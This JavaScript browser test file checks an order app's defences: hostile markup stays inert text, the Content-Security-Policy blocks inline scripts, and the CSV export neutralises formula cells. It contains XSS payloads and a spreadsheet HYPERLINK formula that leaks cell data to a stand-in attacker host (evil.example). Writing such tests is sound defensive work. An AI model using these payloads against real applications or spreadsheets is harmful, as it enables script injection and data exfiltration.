// Hostile text (markup in names, notes and SKUs; spreadsheet formulas) is only ever text:
// shown as typed in every view, never run, and defused in the CSV export. And the page's
// Content-Security-Policy runs only the app's own scripts and wasm.
import { beforeEach, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { withApp } from './support.mjs';

const CUSTOMER = '<img src=x onerror=alert(1)>';
const SKU = '<script>alert(2)</script>';
const NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const app = withApp();
let page;
let dialogs;
beforeEach(async () => {
  ({ page } = app);
  // Every policy violation from here on: the app itself must cause none.
  await page.evaluate(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  dialogs = [];
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });
});

/** Elements the hostile text would have made, had it been parsed as markup. */
async function injected() {
  return page.evaluate(() => document.querySelectorAll('img, script:not([type="module"]):not([src="/rescue.js"]), a[href^="javascript"]').length);
}

test('markup typed into names, SKUs and notes shows as text in every view and never runs', async () => {
  await page.getByRole('textbox', { name: 'Customer', exact: true }).fill(CUSTOMER);
  await page.getByRole('textbox', { name: 'SKU', exact: true }).fill(SKU);
  await page.getByRole('textbox', { name: 'Unit price', exact: true }).fill('2');
  await page.getByRole('button', { name: 'Create order' }).click();

  const list = page.getByRole('table', { name: 'Orders' });
  await list.getByRole('cell', { name: CUSTOMER, exact: true }).waitFor();
  await list.getByRole('link', { name: '#1001', exact: true }).click();
  await page.getByRole('button', { name: 'Place order', exact: true }).click();
  await page.getByText('Order placed').waitFor();
  await page.getByRole('textbox', { name: 'Note', exact: true }).fill(NOTE);
  await page.getByRole('button', { name: 'Add note', exact: true }).click();
  await page.getByRole('listitem').filter({ hasText: NOTE }).first().waitFor();
  await page.getByRole('table', { name: 'Lines' }).getByRole('cell', { name: SKU, exact: true }).first().waitFor();
  await page.getByText(`for ${CUSTOMER}`, { exact: false }).first().waitFor();

  await page.getByRole('link', { name: 'Products', exact: true }).click();
  await page.getByRole('rowheader', { name: SKU, exact: true }).waitFor();
  await page.getByRole('link', { name: 'Dashboard', exact: true }).click();
  await page.getByRole('cell', { name: SKU, exact: true }).first().waitFor();
  await page.getByRole('link', { name: 'Event log', exact: true }).click();
  await page.getByText('Event 1', { exact: true }).click();
  await page.locator('pre').filter({ hasText: CUSTOMER.replaceAll('"', '\\"') }).first().waitFor();

  assert.equal(await injected(), 0, 'no element was made from the text');
  assert.deepEqual(dialogs, [], 'no script ran');
  assert.deepEqual(await page.evaluate(() => window.violations), [], 'the app broke none of its own policy');
});

test('the Content-Security-Policy refuses scripts that are not the app’s', async () => {
  // The built policy is the first; the app adds a second that narrows connect-src only.
  const policies = page.locator('meta[http-equiv="Content-Security-Policy"]');
  const policy = await policies.first().getAttribute('content');
  assert.equal(await policies.nth(1).getAttribute('content'), "connect-src 'self'", 'no sync server set up');
  assert.match(policy, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+'(;|$)/);
  assert.match(policy, /object-src 'none'/);
  const ran = await page.evaluate(async () => {
    const inline = document.createElement('script');
    inline.textContent = 'window.inlineRan = true;';
    document.head.append(inline);
    const handler = document.createElement('div');
    handler.innerHTML = '<img src="data:," onerror="window.handlerRan = true">';
    document.body.append(handler);
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { inline: window.inlineRan ?? false, handler: window.handlerRan ?? false, violations: window.violations.length };
  });
  assert.deepEqual({ inline: ran.inline, handler: ran.handler }, { inline: false, handler: false });
  assert.ok(ran.violations >= 2, 'both were reported as violations');
});

test('the CSV export defuses cells a spreadsheet would run as formulas', async () => {
  await page.getByRole('textbox', { name: 'Customer', exact: true }).fill('=1+2');
  await page.getByRole('textbox', { name: 'SKU', exact: true }).fill('@SUM(A1:A9)');
  await page.getByRole('textbox', { name: 'Unit price', exact: true }).fill('2');
  await page.getByRole('button', { name: 'Create order' }).click();
  await page.getByRole('link', { name: '#1001', exact: true }).click();
  await page.getByRole('button', { name: 'Place order', exact: true }).click();
  await page.getByText('Order placed').waitFor();
  await page.getByRole('textbox', { name: 'Note', exact: true }).fill(NOTE);
  await page.getByRole('button', { name: 'Add note', exact: true }).click();
  await page.getByRole('listitem').filter({ hasText: NOTE }).first().waitFor();

  await page.getByRole('link', { name: 'Import', exact: true }).click();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Export orders as Shopify CSV' }).click(),
  ]);
  const csv = await readFile(await download.path(), 'utf8');
  const row = csv.trim().split(/\r?\n/)[1];
  assert.ok(row.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`), row);
  assert.ok(row.includes(",'=1+2,"), row);
  assert.ok(row.includes(",'@SUM(A1:A9),"), row);
  assert.ok(!/(^|,)[=+\-@]/.test(row), `no cell starts with a formula character: ${row}`);
});
